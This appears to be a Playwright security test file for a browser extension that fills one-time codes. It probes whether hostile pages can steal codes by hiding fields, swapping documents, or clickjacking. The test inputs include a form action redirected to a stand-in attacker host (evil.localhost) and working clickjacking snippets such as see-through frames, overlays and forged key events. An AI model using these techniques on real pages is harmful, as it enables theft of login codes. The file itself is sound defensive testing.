import type { Page } from '@playwright/test';
import { hotp } from '../../core/otp/hotp.ts';
import { otpDefaults } from '../../core/otp/otp.ts';
import type { Desk } from './desk.ts';
import { Inside } from './inside.ts';
import { codePage, type OwnPages, type PageOf, test } from './own-pages.ts';
import { FullPage } from './pages/full-page.ts';
import { someone } from './people.ts';
import { expect } from './world.ts';

const secret = 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP';
const uri = `otpauth://hotp/Bank:marta?secret=${secret}&issuer=Bank&counter=0`;
const bank = 'bank.localhost';

/** A desk whose extension may run on our own pages and has an account with a counter for the bank: whatever takes a code moves it. */
async function atTheBank(
  desk: Desk,
  serve: (pageOf: PageOf) => Promise<OwnPages>,
  pageOf: PageOf,
): Promise<{ inside: Inside; own: FullPage; page: Page; tabId: number; pages: OwnPages }> {
  const inside = new Inside(desk);
  const pages = await serve(pageOf);
  const hosts = [new URL(pages.url(bank)).host];
  const own = await FullPage.withAccount(desk, { passphrase: someone().passphrase, uri, hosts });
  await desk.allowHost('http://*.localhost');
  await own.allow('http://*.localhost/*');
  const page = await desk.context.newPage();
  return { inside, own, page, tabId: await inside.tabOf(page), pages };
}

/** What a page may do to its field between being read and being given a code; `f` is the field. */
const hidings: Record<string, string> = {
  'not displayed': "f.style.display = 'none'",
  invisible: "f.style.visibility = 'hidden'",
  'see-through': "f.style.opacity = '0'",
  'in a see-through form': "f.form.style.opacity = '0'",
  'moved away': "f.style.position = 'absolute'; f.style.left = '-9999px'",
  'clipped away': "f.style.clipPath = 'inset(50%)'",
  'one pixel': "f.style.cssText = 'width: 1px; height: 1px; padding: 0; border: 0'",
  'shrunk by its form': "f.form.style.transform = 'scale(0.001)'",
  disabled: 'f.disabled = true',
  'not to be written': 'f.readOnly = true',
  inert: 'f.form.inert = true',
  'under a layer over the page':
    "const d = document.createElement('div'); d.style.cssText = 'position: fixed; inset: 0; background: white; z-index: 9'; document.body.append(d)",
  'replaced by a twin out of sight':
    "const twin = f.cloneNode(); twin.style.cssText = 'position: absolute; left: -9999px'; f.replaceWith(twin)",
  'made to send the code elsewhere': "f.form.action = 'http://evil.localhost/take'",
};

test('a field that is hidden, covered or bent to another site gets nothing, even when that happens just before the code comes', async ({
  sitAtDesk,
  servePages,
}) => {
  const { inside, own, page, tabId, pages } = await atTheBank(await sitAtDesk(), servePages, () => codePage());
  for (const [name, hide] of Object.entries(hidings))
    await test.step(name, async () => {
      await page.goto(pages.url(bank, '/code'));
      const { promptId, candidates } = await inside.promptAt(own.page, tabId);
      await page.evaluate((script) => new Function('f', script)(document.querySelector('#code')), hide);
      const accountId = candidates[0]?.accountId ?? '';
      const result = await inside.fill(own.page, { promptId, accountId, confirmed: true });
      expect(result.ok && result.took, JSON.stringify(result)).toBe(false);
      const values = await page
        .locator('input')
        .evaluateAll((all) => all.map((one) => (one as HTMLInputElement).value));
      expect(values.join('')).toBe('');
    });
});

/** Ways in which another document takes the place of the one that asked. */
const swaps: Record<string, string> = {
  'another page of the site': "location.replace('/other')",
  'a page of another site': "location.replace(location.href.replace('bank', 'shop'))",
  'the same page again': 'location.reload()',
  'written anew': 'document.open(); document.write(window.whole); document.close()',
};

test('a page that puts another document into its place at that moment gets nothing in the new one', async ({
  sitAtDesk,
  servePages,
}) => {
  // Every document of ours says aloud what is typed into it.
  const noting = `<script>addEventListener('input', (event) => (document.title = 'typed ' + event.target.value), true)</script>`;
  const { inside, own, page, tabId, pages } = await atTheBank(await sitAtDesk(), servePages, () => codePage(noting));
  const seed = Date.now() % 100_000;
  console.log(`swaps: seed ${seed}`);
  let random = seed;
  const outcomes: Record<string, number> = {};
  for (let run = 0; run < 36; run++) {
    const [name, swap] = Object.entries(swaps)[run % 4] as [string, string];
    random = (random * 48_271) % 2_147_483_647;
    const after = random % 60;
    await page.goto(pages.url(bank, '/code'));
    const { promptId, candidates } = await inside.promptAt(own.page, tabId);
    await page.evaluate(() => {
      Object.assign(window, { whole: document.documentElement.outerHTML });
      document.documentElement.dataset.first = 'yes';
    });
    const accountId = candidates[0]?.accountId ?? '';
    const swapped = page.evaluate(
      ({ script, after }) => {
        setTimeout(() => {
          delete document.documentElement.dataset.first;
          new Function(script)();
        }, after);
      },
      { script: swap, after },
    );
    const [result] = await Promise.all([inside.fill(own.page, { promptId, accountId, confirmed: true }), swapped]);
    await expect
      .poll(
        () =>
          page
            .evaluate(() => document.readyState === 'complete' && !document.documentElement.dataset.first)
            .catch(() => false),
        {
          intervals: [20, 50],
        },
      )
      .toBe(true);
    const what = result.ok ? (result.took ? 'filled before' : 'not taken') : result.why;
    outcomes[what] = (outcomes[what] ?? 0) + 1;
    expect(await page.locator('#code').inputValue(), `${name}, after ${after} ms`).toBe('');
    expect(await page.title(), `${name}, after ${after} ms`).toBe('Sign in');
  }
  console.log('swaps:', JSON.stringify(outcomes));
});

const field = "document.querySelector('#code')";
/** Pages that try to have a click of the person's mean something to the extension (security.md E1). */
const lures: Record<string, string> = {
  'the field see-through': `${field}.style.opacity = '0.001'`,
  'the body see-through': "document.body.style.opacity = '0.001'",
  'the root see-through': "document.documentElement.style.opacity = '0.001'",
  'an overlay that lets clicks through':
    "document.body.insertAdjacentHTML('beforeend', '<div style=\"position: fixed; inset: 0; background: #fffc; pointer-events: none; z-index: 9\">You won. Click anywhere.</div>')",
  'a popover over everything':
    "document.body.insertAdjacentHTML('beforeend', '<div popover=manual id=p style=\"width: 100vw; height: 100vh; pointer-events: none\">Accept cookies</div>'); document.querySelector('#p').showPopover()",
  'a field that follows the pointer': `addEventListener('pointermove', (e) => { ${field}.style.cssText = 'position: fixed; left: ' + (e.clientX - 20) + 'px; top: ' + (e.clientY - 10) + 'px'; ${field}.focus() })`,
  'a field clipped to a slit': `${field}.style.clipPath = 'inset(0 0 90% 0)'`,
  'the form turned and blown up': "document.forms[0].style.transform = 'rotate(8deg) scale(3)'",
  'the page enlarged': "document.body.style.zoom = '4'",
  'swapped at the second click': `addEventListener('mousedown', () => { const f = document.forms[0]; f.parentNode.append(f) })`,
  'itself in a see-through frame':
    'document.body.insertAdjacentHTML(\'beforeend\', \'<iframe src="/inner" style="position: fixed; inset: 0; width: 100%; height: 100%; opacity: 0.001"></iframe>\')',
  'our popup in a frame':
    'document.body.insertAdjacentHTML(\'beforeend\', \'<iframe src="chrome-extension://EXTENSION/popup.html" style="position: fixed; inset: 0; width: 100%; height: 100%; opacity: 0.5"></iframe>\')',
  'keys and messages of its own making': `setInterval(() => { for (const type of ['keydown', 'keyup']) document.dispatchEvent(new KeyboardEvent(type, { key: 'L', code: 'KeyL', altKey: true, shiftKey: true, bubbles: true })); postMessage({ type: 'fill', promptId: 'f1', code: '123456', origin, submit: false }, '*'); document.dispatchEvent(new CustomEvent('fill', { detail: 'f1' })); ${field}.click() }, 30)`,
};

test('whatever a page makes of them, clicks and keys in it never bring a code: only popup, command and menu do', async ({
  sitAtDesk,
  servePages,
}) => {
  // A click on the form's own button is not what is tried here.
  const stays = "<script>addEventListener('submit', (event) => event.preventDefault(), true)</script>";
  const desk = await sitAtDesk();
  const { inside, own, page, tabId, pages } = await atTheBank(desk, servePages, () => codePage(stays));
  const { width, height } = page.viewportSize() ?? { width: 1280, height: 800 };
  let clicks = 0;
  for (const [name, lure] of Object.entries(lures))
    await test.step(name, async () => {
      await page.goto(pages.url(bank, '/code'));
      await inside.promptAt(own.page, tabId);
      await page.evaluate(
        (script) => {
          // A click on the form's own button is not what is tried here.
          document.addEventListener('submit', (event) => event.preventDefault(), true);
          new Function(script)();
        },
        lure.replace('EXTENSION', desk.extensionId),
      );
      for (let row = 0; row < 10; row++)
        for (let column = 0; column < 10; column++) {
          await page.mouse.click(((column + 0.5) * width) / 10, ((row + 0.5) * height) / 10);
          clicks++;
        }
      await page.mouse.dblclick(width / 2, height / 2);
      for (const key of ['Tab', 'Enter', 'Space', 'Tab', 'Enter']) await page.keyboard.press(key);
      for (const frame of page.frames()) {
        const values = await frame
          .locator('input')
          .evaluateAll((all) => all.map((one) => (one as HTMLInputElement).value));
        expect(values.join('').trim(), name).toBe('');
      }
      expect(await inside.popups()).toBe(0);
    });
  console.log(`clickjacking: ${Object.keys(lures).length} pages, ${clicks} clicks`);

  // The counter stands where it stood: no code was made. And the command still brings the first one.
  await page.goto(pages.url(bank, '/code'));
  await inside.promptAt(own.page, tabId);
  await inside.command(page);
  await expect(page.locator('#code')).toHaveValue(hotp({ ...otpDefaults, type: 'hotp', secret, counter: 0 }));
});
